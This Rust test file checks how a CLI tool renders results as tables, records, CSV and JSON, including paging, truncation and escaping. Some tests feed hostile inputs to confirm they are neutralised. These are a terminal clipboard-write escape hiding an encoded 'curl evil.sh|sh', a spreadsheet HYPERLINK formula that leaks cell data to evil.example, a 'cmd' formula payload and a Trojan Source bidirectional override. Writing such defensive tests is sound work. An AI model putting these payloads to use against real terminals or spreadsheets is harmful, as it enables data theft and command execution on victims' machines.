//! Every format rendered into a `Vec<u8>` and compared with its exact text.

use std::io::{self, Write};
use std::str::FromStr;

use chrono::NaiveDate;
use rust_decimal::Decimal;

use super::*;
use crate::language::value::{Cell, Column, ColumnType};
use crate::output::screen::Screen;

fn columns() -> Vec<Column> {
    vec![
        Column::new("id", ColumnType::Text),
        Column::new("name", ColumnType::Text),
        Column::new("total", ColumnType::Money),
        Column::new("attendees", ColumnType::Integer),
        Column::new("start", ColumnType::DateTime),
        Column::new("signed", ColumnType::Text),
        Column::new("notes", ColumnType::Text),
    ]
}

fn text(s: &str) -> Cell {
    Cell::Text(s.to_string())
}

fn money(s: &str) -> Cell {
    Cell::Money(Decimal::from_str(s).unwrap())
}

fn rows() -> Vec<Vec<Cell>> {
    let day = NaiveDate::from_ymd_opt(2023, 6, 4).unwrap();
    vec![
        vec![
            text("kc555"),
            text("Aliénor Dupont"),
            money("1234.5"),
            Cell::Integer(75),
            // 13:00 and 09:05:30 in Paris.
            Cell::DateTime(day.and_hms_opt(11, 0, 0).unwrap().and_utc()),
            text("2023-06-04"),
            Cell::Null,
        ],
        vec![
            text("ct1001"),
            text("\u{200F}Kévin"),
            money("0"),
            Cell::Null,
            Cell::Null,
            Cell::Null,
            text("says \"hi\", then\nleaves"),
        ],
        vec![
            text("ct1002"),
            text(""),
            money("999.99"),
            Cell::Integer(3),
            Cell::DateTime(day.and_hms_opt(7, 5, 30).unwrap().and_utc()),
            Cell::Null,
            text(""),
        ],
    ]
}

fn render(format: Format, color: bool, columns: &[Column], rows: &[Vec<Cell>]) -> String {
    let mut out = Vec::new();
    let mut printer = Printer::new(&mut out, format, color);
    printer.begin(columns).unwrap();
    for row in rows {
        printer.row(row).unwrap();
    }
    printer.finish().unwrap();
    drop(printer);
    String::from_utf8(out).unwrap()
}

#[test]
fn formats_are_named_case_insensitively() {
    assert_eq!("table".parse::<Format>().unwrap(), Format::Table);
    assert_eq!("Vertical".parse::<Format>().unwrap(), Format::Vertical);
    assert_eq!("CSV".parse::<Format>().unwrap(), Format::Csv);
    assert_eq!("json".parse::<Format>().unwrap(), Format::Json);
    for f in Format::ALL {
        assert_eq!(f.to_string().parse::<Format>().unwrap(), f);
    }
    let e = "yaml".parse::<Format>().unwrap_err();
    assert_eq!(e.kind, crate::error::ErrorKind::Usage);
    assert_eq!(
        e.message,
        "unknown format `yaml`: use table, vertical, csv or json"
    );
}

#[test]
fn help_names_every_format() {
    let names: Vec<&str> = Format::names().collect();
    assert_eq!(
        crate::language::help::statement_help("format")
            .unwrap()
            .syntax,
        format!("format {}", names.join("|"))
    );
}

#[test]
fn table() {
    assert_eq!(
        render(Format::Table, false, &columns(), &rows()),
        "\
┌────────┬────────────────┬────────────┬───────────┬──────────────────┬────────────┬─────────────────┐
│ id     │ name           │      total │ attendees │ start            │ signed     │ notes           │
├────────┼────────────────┼────────────┼───────────┼──────────────────┼────────────┼─────────────────┤
│ kc555  │ Aliénor Dupont │ 1 234.50 € │        75 │ 2023-06-04 13:00 │ 2023-06-04 │                 │
│ ct1001 │ \u{200F}Kévin          │     0.00 € │           │                  │            │ says \"hi\", then │
│        │                │            │           │                  │            │ leaves          │
│ ct1002 │                │   999.99 € │         3 │ 2023-06-04 09:05 │            │                 │
└────────┴────────────────┴────────────┴───────────┴──────────────────┴────────────┴─────────────────┘
3 rows; times in Europe/Paris
"
    );
}

#[test]
fn table_header_is_bold_only_when_asked() {
    let columns = [
        Column::new("id", ColumnType::Text),
        Column::new("total", ColumnType::Money),
    ];
    let rows = [vec![text("kc555"), money("999.99")]];
    assert_eq!(
        render(Format::Table, true, &columns, &rows),
        "\
┌───────┬──────────┐
│ \x1b[1mid\x1b[0m    │    \x1b[1mtotal\x1b[0m │
├───────┼──────────┤
│ kc555 │ 999.99 € │
└───────┴──────────┘
1 row
"
    );
    assert!(!render(Format::Table, false, &columns, &rows).contains('\x1b'));
    assert!(!render(Format::Vertical, false, &columns, &rows).contains('\x1b'));
}

#[test]
fn table_shows_control_characters_escaped() {
    let columns = [Column::new("name", ColumnType::Text)];
    let rows = [vec![text("a\x1b[2Jb\tc")]];
    assert_eq!(
        render(Format::Table, false, &columns, &rows),
        "\
┌────────────────┐
│ name           │
├────────────────┤
│ a\\u{1b}[2Jb\\tc │
└────────────────┘
1 row
"
    );
}

#[test]
fn table_shows_bidirectional_overrides_escaped() {
    let columns = [Column::new("name", ColumnType::Text)];
    let rows = [vec![text("ab\u{202E}cd")]];
    assert_eq!(
        render(Format::Table, false, &columns, &rows),
        "\
┌──────────────┐
│ name         │
├──────────────┤
│ ab\\u{202e}cd │
└──────────────┘
1 row
"
    );
}

#[test]
fn table_of_no_rows() {
    assert_eq!(
        render(Format::Table, false, &columns()[..2], &[]),
        "\
┌────┬──────┐
│ id │ name │
├────┼──────┤
└────┴──────┘
0 rows
"
    );
}

#[test]
fn table_draws_at_most_1000_rows_and_counts_the_rest() {
    let columns = [Column::new("n", ColumnType::Integer)];
    let rows: Vec<Vec<Cell>> = (1..=1500).map(|n| vec![Cell::Integer(n)]).collect();
    let out = render(Format::Table, false, &columns, &rows);
    assert!(
        out.starts_with("┌──────┐\n│    n │\n├──────┤\n│    1 │\n│    2 │\n"),
        "{out}"
    );
    assert!(
        out.ends_with(
            "│  999 │\n│ 1000 │\n└──────┘\n1000 of 1500 rows shown; use limit/offset or --format csv\n"
        ),
        "{out}"
    );
    // Top line, header, its line, 1000 rows, bottom line, footer.
    assert_eq!(out.lines().count(), 1005);
    assert!(!out.contains("1001"));

    let exactly: Vec<Vec<Cell>> = (1..=1000).map(|n| vec![Cell::Integer(n)]).collect();
    let out = render(Format::Table, false, &columns, &exactly);
    assert!(out.ends_with("│ 1000 │\n└──────┘\n1000 rows\n"), "{out}");
}

#[test]
fn vertical() {
    assert_eq!(
        render(Format::Vertical, false, &columns(), &rows()),
        "\
-[ RECORD 1 ]-
id        | kc555
name      | Aliénor Dupont
total     | 1 234.50 €
attendees | 75
start     | 2023-06-04 13:00
signed    | 2023-06-04
notes     |

-[ RECORD 2 ]-
id        | ct1001
name      | \u{200F}Kévin
total     | 0.00 €
attendees |
start     |
signed    |
notes     | says \"hi\", then
          | leaves

-[ RECORD 3 ]-
id        | ct1002
name      |
total     | 999.99 €
attendees | 3
start     | 2023-06-04 09:05
signed    |
notes     |

3 rows; times in Europe/Paris
"
    );
}

#[test]
fn vertical_bold_names_and_no_rows() {
    let columns = [
        Column::new("id", ColumnType::Text),
        Column::new("total", ColumnType::Money),
    ];
    let rows = [vec![text("kc555"), money("999.99")]];
    assert_eq!(
        render(Format::Vertical, true, &columns, &rows),
        "-[ RECORD 1 ]-\n\x1b[1mid   \x1b[0m | kc555\n\x1b[1mtotal\x1b[0m | 999.99 €\n\n1 row\n"
    );
    assert_eq!(render(Format::Vertical, false, &columns, &[]), "0 rows\n");
}

#[test]
fn csv() {
    assert_eq!(
        render(Format::Csv, false, &columns(), &rows()),
        "\
id,name,total,attendees,start,signed,notes
kc555,Aliénor Dupont,1234.50,75,2023-06-04T13:00:00+02:00,2023-06-04,
ct1001,\u{200F}Kévin,0.00,,,,\"says \"\"hi\"\", then
leaves\"
ct1002,\"\",999.99,3,2023-06-04T09:05:30+02:00,,\"\"
"
    );
}

#[test]
fn csv_quotes_what_it_must() {
    let columns = [
        Column::new("a,b", ColumnType::Text),
        Column::new("c", ColumnType::Text),
    ];
    let rows = [
        vec![text("x\ry"), text("plain text")],
        vec![text("\""), text("'single'")],
    ];
    assert_eq!(
        render(Format::Csv, false, &columns, &rows),
        "\"a,b\",c\nx\\ry,plain text\n\"\"\"\",'single'\n"
    );
    assert_eq!(render(Format::Csv, false, &columns, &[]), "\"a,b\",c\n");
}

#[test]
fn csv_text_can_neither_drive_a_terminal_nor_be_a_formula() {
    let columns = [Column::new("name", ColumnType::Text)];
    let cell = |s: &str| {
        render(Format::Csv, false, &columns, &[vec![text(s)]])
            .strip_prefix("name\n")
            .unwrap()
            .to_owned()
    };
    // OSC 52 (write the clipboard), a screen clear, C1 CSI, DEL.
    assert_eq!(
        cell("x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
        "x\\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\\u{7}\n"
    );
    assert_eq!(
        cell("a\x1b[2Jb\u{9b}31mc\x7f"),
        "a\\u{1b}[2Jb\\u{9b}31mc\\u{7f}\n"
    );
    // A bidirectional override ("Trojan Source"); a mark stays.
    assert_eq!(cell("Kévin\u{202E}fdp.exe"), "Kévin\\u{202e}fdp.exe\n");
    assert_eq!(cell("\u{200F}Kévin"), "\u{200F}Kévin\n");
    // Tabs and newlines are data: kept (the newline quoted); a lone CR is
    // not.
    assert_eq!(cell("a\tb"), "a\tb\n");
    assert_eq!(cell("one\r\ntwo"), "\"one\ntwo\"\n");
    assert_eq!(cell("one\rtwo"), "one\\rtwo\n");
    // Formulas: OWASP's leading characters get a `'`.
    assert_eq!(
        cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Invoice\")"),
        "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Invoice\"\")\"\n"
    );
    assert_eq!(cell("+33 6 12 34 56 78"), "'+33 6 12 34 56 78\n");
    assert_eq!(cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0\n");
    assert_eq!(cell("@SUM(1+1)"), "'@SUM(1+1)\n");
    assert_eq!(cell("\t=1+1"), "'\t=1+1\n");
    assert_eq!(cell("\r=1+1"), "'\\r=1+1\n");
    assert_eq!(cell("a=1"), "a=1\n");
    assert_eq!(cell(""), "\"\"\n");
    // Numbers and money are not text: as they are.
    let columns = [
        Column::new("n", ColumnType::Integer),
        Column::new("total", ColumnType::Money),
    ];
    assert_eq!(
        render(
            Format::Csv,
            false,
            &columns,
            &[vec![Cell::Integer(-3), money("-12.5")]]
        ),
        "n,total\n-3,-12.50\n"
    );
}

#[test]
fn json_strings_escape_every_control_character_and_read_back_exactly() {
    let columns = [Column::new("name", ColumnType::Text)];
    let value = "x\x1b]52;c;YQ==\x07\u{9b}2J\x7f\u{202E}\u{2066}=1+1\t\u{200F}é";
    let out = render(Format::Json, false, &columns, &[vec![text(value)]]);
    assert_eq!(
        out,
        "{\"name\":\"x\\u001b]52;c;YQ==\\u0007\\u009b2J\\u007f\\u202e\\u2066=1+1\\t\u{200F}é\"}\n"
    );
    assert!(!out.contains(|c: char| c.is_control() && c != '\n'));
    let read: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(read["name"], value);
}

#[test]
fn json_lines() {
    let out = render(Format::Json, false, &columns(), &rows());
    assert_eq!(
        out,
        "\
{\"id\":\"kc555\",\"name\":\"Aliénor Dupont\",\"total\":\"1234.50\",\"attendees\":75,\"start\":\"2023-06-04T13:00:00+02:00\",\"signed\":\"2023-06-04\",\"notes\":null}
{\"id\":\"ct1001\",\"name\":\"\u{200F}Kévin\",\"total\":\"0.00\",\"attendees\":null,\"start\":null,\"signed\":null,\"notes\":\"says \\\"hi\\\", then\\nleaves\"}
{\"id\":\"ct1002\",\"name\":\"\",\"total\":\"999.99\",\"attendees\":3,\"start\":\"2023-06-04T09:05:30+02:00\",\"signed\":null,\"notes\":\"\"}
"
    );
    for line in out.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(v.as_object().unwrap().len(), 7);
    }
    assert_eq!(render(Format::Json, false, &columns(), &[]), "");
}

#[test]
fn a_printer_prints_one_result_after_another() {
    let columns = [Column::new("id", ColumnType::Text)];
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Csv, false);
    for id in ["a", "b"] {
        p.begin(&columns).unwrap();
        p.row(&[text(id)]).unwrap();
        p.finish().unwrap();
    }
    p.count(2).unwrap();
    drop(p);
    assert_eq!(String::from_utf8(out).unwrap(), "id\na\nid\nb\ncount\n2\n");
}

#[test]
fn counts() {
    let mut out = Vec::new();
    for f in Format::ALL {
        count(&mut out, f, 42).unwrap();
    }
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "42\n42\ncount\n42\n{\"count\":42}\n"
    );
}

#[test]
fn messages_and_changed_records() {
    let columns = [
        Column::new("id", ColumnType::Text),
        Column::new("status", ColumnType::Text),
        Column::new("remain", ColumnType::Money),
    ];
    let record = [text("kc555"), text("signed"), money("250")];
    let mut out = Vec::new();
    for f in Format::ALL {
        changed(
            &mut out,
            f,
            "signed contract kc555",
            Some((&columns, &record)),
        )
        .unwrap();
    }
    changed(&mut out, Format::Json, "deleted client cl1001", None).unwrap();
    message(&mut out, Format::Json, "say \"hi\"").unwrap();
    message(&mut out, Format::Table, "bell\x07").unwrap();
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "\
signed contract kc555
signed contract kc555
signed contract kc555
{\"id\":\"kc555\",\"status\":\"signed\",\"remain\":\"250.00\"}
{\"message\":\"deleted client cl1001\"}
{\"message\":\"say \\\"hi\\\"\"}
bell\\u{7}
"
    );
}

#[test]
fn misuse_is_an_error_not_a_panic() {
    let mut p = Printer::new(Vec::new(), Format::Json, false);
    let e = p.row(&[text("x")]).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::InvalidInput);
    p.begin(&columns()).unwrap();
    let e = p.row(&[text("x")]).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::InvalidInput);
    assert_eq!(e.to_string(), "a row of 1 cells for 7 columns");
    let mut out = Vec::new();
    let e = changed(&mut out, Format::Json, "x", Some((&columns(), &[]))).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::InvalidInput);
}

/// A reader that went away: every write fails as a closed pipe does.
struct ClosedPipe;

impl Write for ClosedPipe {
    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
        Err(io::ErrorKind::BrokenPipe.into())
    }
    fn flush(&mut self) -> io::Result<()> {
        Err(io::ErrorKind::BrokenPipe.into())
    }
}

#[test]
fn a_closed_pipe_is_an_error_of_that_kind() {
    for format in Format::ALL {
        for color in [false, true] {
            let mut p = Printer::new(ClosedPipe, format, color);
            let fed = p.begin(&columns()).and_then(|()| {
                for _ in 0..2000 {
                    for row in rows() {
                        p.row(&row)?;
                    }
                }
                p.finish()
            });
            let e = fed.unwrap_err();
            assert_eq!(e.kind(), io::ErrorKind::BrokenPipe, "{format}");
            // Dropping the printer with bytes still buffered must not panic.
            drop(p);
        }
        let mut p = Printer::new(ClosedPipe, format, false);
        assert_eq!(p.count(1).unwrap_err().kind(), io::ErrorKind::BrokenPipe);
        assert_eq!(
            p.message("x").unwrap_err().kind(),
            io::ErrorKind::BrokenPipe
        );
        let record = rows().remove(0);
        assert_eq!(
            p.changed("x", Some((&columns(), &record)))
                .unwrap_err()
                .kind(),
            io::ErrorKind::BrokenPipe
        );
        assert!(p.into_inner().is_err());
    }
}

/// Counts what it is given and keeps none of it.
#[derive(Default)]
struct Counter {
    bytes: u64,
    lines: u64,
}

impl Write for Counter {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.bytes += buf.len() as u64;
        self.lines += buf.iter().filter(|&&b| b == b'\n').count() as u64;
        Ok(buf.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn csv_and_json_stream_as_rows_come() {
    const N: u64 = 200_000;
    let columns = columns();
    let row = rows().remove(0);
    for format in [Format::Csv, Format::Json, Format::Vertical] {
        let mut counter = Counter::default();
        let mut p = Printer::new(&mut counter, format, false);
        p.begin(&columns).unwrap();
        for _ in 0..N {
            p.row(&row).unwrap();
        }
        // Before the end, all but the last buffer's worth is already out:
        // nothing waits for `finish`.
        let before = p.out.get_ref().bytes;
        let buffered = p.out.buffer().len() as u64;
        assert!(buffered <= p.out.capacity() as u64);
        assert!(before > N * 50, "{format}: {before} bytes before finish");
        p.finish().unwrap();
        drop(p);
        let (footer, lines) = match format {
            Format::Csv => (0, N + 1),
            Format::Json => (0, N),
            _ => (
                "\n200000 rows; times in Europe/Paris\n".len() as u64,
                N * 9 + 1,
            ),
        };
        assert_eq!(counter.bytes, before + buffered + footer, "{format}");
        assert_eq!(counter.lines, lines, "{format}");
    }
}

/// Renders results one after the other on a terminal of `columns` and
/// `rows` with no pager, as the interactive shell does.
fn on_screen(
    columns: usize,
    rows: usize,
    chosen: bool,
    results: &[(&[Column], &[Vec<Cell>])],
) -> String {
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Table, false)
        .on_screen(Screen::fixed(columns, rows, None), chosen);
    for (columns, cells) in results {
        p.begin(columns).unwrap();
        for row in *cells {
            p.row(row).unwrap();
        }
        p.finish().unwrap();
    }
    drop(p);
    String::from_utf8(out).unwrap()
}

#[test]
fn on_a_terminal_long_cells_are_cut_and_said_once() {
    let columns = [
        Column::new("id", ColumnType::Text),
        Column::new("notes", ColumnType::Text),
    ];
    let long = "Penser au catering, puis à la musique, puis au parking des invités.";
    let rows = [
        vec![text("geg2021"), text(long)],
        vec![text("hob2023"), text("Upstairs.\nBring the keys.")],
        vec![text("ay322"), Cell::Null],
    ];
    let once = on_screen(80, 100, false, &[(&columns, &rows)]);
    assert_eq!(
        once,
        "\
┌─────────┬─────────────────────────────────────────┐
│ id      │ notes                                   │
├─────────┼─────────────────────────────────────────┤
│ geg2021 │ Penser au catering, puis à la musique,… │
│ hob2023 │ Upstairs.…                              │
│ ay322   │                                         │
└─────────┴─────────────────────────────────────────┘
3 rows
(… marks a cut value: `show ENTITY ID` or `format vertical` shows it whole)
"
    );
    // Said once: the second result has its footer only.
    let twice = on_screen(80, 100, false, &[(&columns, &rows), (&columns, &rows)]);
    assert_eq!(twice.matches("marks a cut value").count(), 1, "{twice}");
    assert!(twice.ends_with("└─────────┴─────────────────────────────────────────┘\n3 rows\n"));
    // Nothing to cut: nothing said.
    let short = [vec![text("ay322"), text("Penser au catering.")]];
    assert!(!on_screen(80, 100, false, &[(&columns, &short)]).contains('…'));
    // Not a terminal: the whole value, as always.
    let piped = render(Format::Table, false, &columns, &rows);
    assert!(
        piped.contains(long) && piped.contains("│         │ Bring the keys. "),
        "{piped}"
    );
}

#[test]
fn on_a_terminal_a_table_wider_than_it_is_shown_as_records() {
    let columns = columns();
    let rows = rows();
    // The table is 103 columns wide.
    let wide = render(Format::Table, false, &columns, &rows);
    assert_eq!(wide.lines().map(|l| l.chars().count()).max(), Some(103));

    let fits = on_screen(103, 100, false, &[(&columns, &rows)]);
    assert!(fits.starts_with("┌────────┬"), "{fits}");

    let narrow = on_screen(80, 100, false, &[(&columns, &rows), (&columns, &rows)]);
    let vertical = render(Format::Vertical, false, &columns, &rows);
    let note = "(too wide for the terminal: shown as records; `format table` keeps tables)\n";
    // Said once, before the first records; the records keep every value
    // whole, as `--format vertical` prints them.
    assert_eq!(narrow, format!("{note}{vertical}{vertical}"));
    assert!(narrow.lines().all(|l| l.chars().count() <= 80), "{narrow}");

    // `format table` named: a table it stays, its cells cut all the same.
    let chosen = on_screen(80, 100, true, &[(&columns, &rows)]);
    assert!(chosen.starts_with("┌────────┬"), "{chosen}");
    assert!(chosen.contains("│ says \"hi\", then… │"), "{chosen}");

    // Past the rows a table keeps, the records say how many there were.
    let many: Vec<Vec<Cell>> = (0..1001).map(|_| rows[0].clone()).collect();
    let capped = on_screen(80, 100_000, false, &[(&columns, &many)]);
    assert!(capped.contains("-[ RECORD 1000 ]-") && !capped.contains("RECORD 1001"));
    assert!(
        capped.ends_with(
            "\n1000 of 1001 rows shown; use limit/offset or --format csv; times in Europe/Paris\n"
        ),
        "{}",
        &capped[capped.len() - 200..]
    );
}

#[test]
fn on_a_terminal_a_result_taller_than_it_goes_through_the_pager() {
    let dir = tempfile::tempdir().unwrap();
    let paged = dir.path().join("paged");
    let pager = format!("cat >> '{}'", paged.display());
    let columns = [Column::new("n", ColumnType::Integer)];
    let few: Vec<Vec<Cell>> = (1..=3).map(|n| vec![Cell::Integer(n)]).collect();
    let many: Vec<Vec<Cell>> = (1..=30).map(|n| vec![Cell::Integer(n)]).collect();
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Table, false)
        .on_screen(Screen::fixed(80, 24, Some(pager)), false);
    for rows in [&few, &many, &few] {
        p.begin(&columns).unwrap();
        for row in rows {
            p.row(row).unwrap();
        }
        p.finish().unwrap();
    }
    // A message is never paged.
    p.message("done").unwrap();
    drop(p);
    let small = render(Format::Table, false, &columns, &few);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        format!("{small}{small}done\n")
    );
    assert_eq!(
        std::fs::read_to_string(&paged).unwrap(),
        render(Format::Table, false, &columns, &many)
    );
}

#[test]
fn show_on_a_terminal_is_one_page_and_keeps_values_whole() {
    let dir = tempfile::tempdir().unwrap();
    let paged = dir.path().join("paged");
    let pager = format!("cat >> '{}'", paged.display());
    let long = "n".repeat(300);
    let record_columns = [
        Column::new("id", ColumnType::Text),
        Column::new("notes", ColumnType::Text),
    ];
    let related_columns = [Column::new("n", ColumnType::Integer)];
    let related = [Related {
        title: "events",
        columns: &related_columns,
        rows: (1..=30).map(|n| vec![Cell::Integer(n)]).collect(),
    }];
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Table, false)
        .on_screen(Screen::fixed(80, 24, Some(pager)), false);
    p.show(&record_columns, &[text("ev1"), text(&long)], &related)
        .unwrap();
    drop(p);
    assert!(out.is_empty());
    let shown = std::fs::read_to_string(&paged).unwrap();
    assert!(
        shown.starts_with(&format!(
            "-[ RECORD 1 ]-\nid    | ev1\nnotes | {long}\n\n1 row\n\nevents:\n┌────┐"
        )),
        "{shown}"
    );
    assert!(shown.ends_with("│ 30 │\n└────┘\n30 rows\n"), "{shown}");
}

#[test]
fn settle_ends_what_a_failed_statement_left() {
    let dir = tempfile::tempdir().unwrap();
    let paged = dir.path().join("paged");
    let columns = [Column::new("n", ColumnType::Integer)];
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Vertical, false).on_screen(
        Screen::fixed(80, 24, Some(format!("cat > '{}'", paged.display()))),
        false,
    );
    p.begin(&columns).unwrap();
    for n in 0..3 {
        p.row(&[Cell::Integer(n)]).unwrap();
    }
    // The rows stopped coming (an error): what came is printed.
    p.settle().unwrap();
    drop(p);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "-[ RECORD 1 ]-\nn | 0\n\n-[ RECORD 2 ]-\nn | 1\n\n-[ RECORD 3 ]-\nn | 2\n"
    );
    assert!(!paged.exists());
}

#[test]
fn changes_show_each_value_as_its_type_does() {
    use crate::language::value::Change;
    let at = NaiveDate::from_ymd_opt(2026, 12, 4)
        .unwrap()
        .and_hms_micro_opt(5, 38, 24, 293_858)
        .unwrap()
        .and_utc();
    let changes = Cell::Changes(vec![
        Change {
            field: "remain".into(),
            old: money("1500"),
            new: money("900"),
        },
        Change {
            field: "signed".into(),
            old: Cell::Null,
            new: Cell::DateTime(at),
        },
        Change {
            field: "notes".into(),
            old: text("=1+1\x1b[2J"),
            new: Cell::Null,
        },
    ]);
    let columns = [Column::new("changes", ColumnType::Changes("contract"))];
    let rows = [vec![changes]];
    assert_eq!(
        render(Format::Vertical, false, &columns, &rows),
        "-[ RECORD 1 ]-\nchanges | remain: 1 500.00 € → 900.00 €; signed: none → 2026-12-04 06:38; \
         notes: =1+1\\u{1b}[2J → none\n\n1 row\n"
    );
    assert_eq!(
        render(Format::Csv, false, &columns, &rows),
        "changes\nremain: 1500.00 → 900.00; signed: none → 2026-12-04T06:38:24.293858+01:00; \
         notes: =1+1\\u{1b}[2J → none\n"
    );
    assert_eq!(
        render(Format::Json, false, &columns, &rows),
        "{\"changes\":\"remain: 1500.00 → 900.00; signed: none → 2026-12-04T06:38:24.293858+01:00; \
         notes: =1+1\\u001b[2J → none\"}\n"
    );
}

#[test]
fn a_table_asked_for_by_name_and_wider_than_the_terminal_is_paged_however_short() {
    let dir = tempfile::tempdir().unwrap();
    let paged = dir.path().join("paged");
    let pager = format!("cat >> '{}'", paged.display());
    let mut out = Vec::new();
    let mut p = Printer::new(&mut out, Format::Table, false)
        .on_screen(Screen::fixed(80, 24, Some(pager)), true);
    p.begin(&columns()).unwrap();
    p.row(&rows()[0]).unwrap();
    p.finish().unwrap();
    drop(p);
    // Not on the terminal, which would wrap its 103-column lines.
    assert!(out.is_empty());
    let shown = std::fs::read_to_string(&paged).unwrap();
    assert!(shown.starts_with("┌───────┬"), "{shown}");
    assert!(shown.ends_with("1 row; times in Europe/Paris\n"), "{shown}");
}
